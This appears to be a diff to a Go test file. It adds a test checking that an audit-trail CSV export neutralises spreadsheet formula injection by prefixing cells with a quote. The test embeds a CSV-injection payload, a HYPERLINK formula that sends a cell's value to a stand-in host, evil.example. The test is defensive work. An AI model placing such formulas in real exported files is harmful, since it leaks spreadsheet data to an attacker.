@@ -5,6 +5,7 @@ import (
 	"context"
 	"encoding/csv"
 	"encoding/json"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -131,4 +132,26 @@ func kindsStr(ks []TrailKind) []string {
 		out[i] = string(k)
 	}
 	return out
+}
+
+func TestTheTrailCSVDefusesSpreadsheetFormulas(t *testing.T) {
+	t.Parallel()
+	h := newHarness(t)
+	formula := `=HYPERLINK("https://evil.example/?"&A1,"click")`
+	if _, err := h.svc.Create(context.Background(), owner, NewRequest{Steps: []Step{addStep("3", "payments")}, Justification: formula}); err != nil {
+		t.Fatal(err)
+	}
+	all, _ := h.svc.Trail(context.Background(), TrailFilter{})
+	var buf bytes.Buffer
+	if err := WriteTrailCSV(&buf, all); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	comment := slices.Index(rows[0], "comment")
+	if got, want := rows[len(rows)-1][comment], "'"+formula; got != want {
+		t.Errorf("comment cell = %q, want %q", got, want)
+	}
 }
